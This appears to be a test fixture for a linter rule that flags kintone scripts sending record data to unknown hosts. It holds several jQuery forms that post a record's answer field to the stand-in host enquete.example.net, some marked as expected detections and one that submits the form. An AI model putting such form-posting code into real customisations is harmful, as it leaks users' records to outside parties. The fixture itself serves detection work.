// Forms that are put together with jQuery, sent to a site that nobody knows.
kintone.events.on('app.record.detail.show', (event) => {
  const { record } = event;
  const hidden = (name) => $('<input type="hidden">').attr('name', name);

  const joined = $('<form method="post" target="_blank"></form>');
  $('<input type="hidden" name="answer">').val(record.回答.value).appendTo(joined);
  joined.attr('action', 'https://enquete.example.net/post'); // expect: record-to-unknown-host

  const appended = $('<form method="post"></form>');
  appended.append(hidden('answer').val(record.回答.value), hidden('kind').val('詳細'));
  appended.attr('action', 'https://enquete.example.net/post').appendTo('body').submit(); // expect: record-to-unknown-host

  const valued = $('<form>').append($('<input>').attr('value', record.回答.value));
  valued.prop('action', 'https://enquete.example.net/post'); // expect: record-to-unknown-host

  const fixed = $('<form method="post"></form>');
  $('<input type="hidden" name="kind">').val('詳細').appendTo(fixed);
  $('<input type="hidden" name="answer">').val(record.回答.value).appendTo('body');
  fixed.attr('action', 'https://enquete.example.net/post');

  const own = $('<form method="post"></form>');
  $('<input type="hidden" name="answer">').val(record.回答.value).appendTo(own);
  own.attr('action', '/k/12/');
  return event;
});
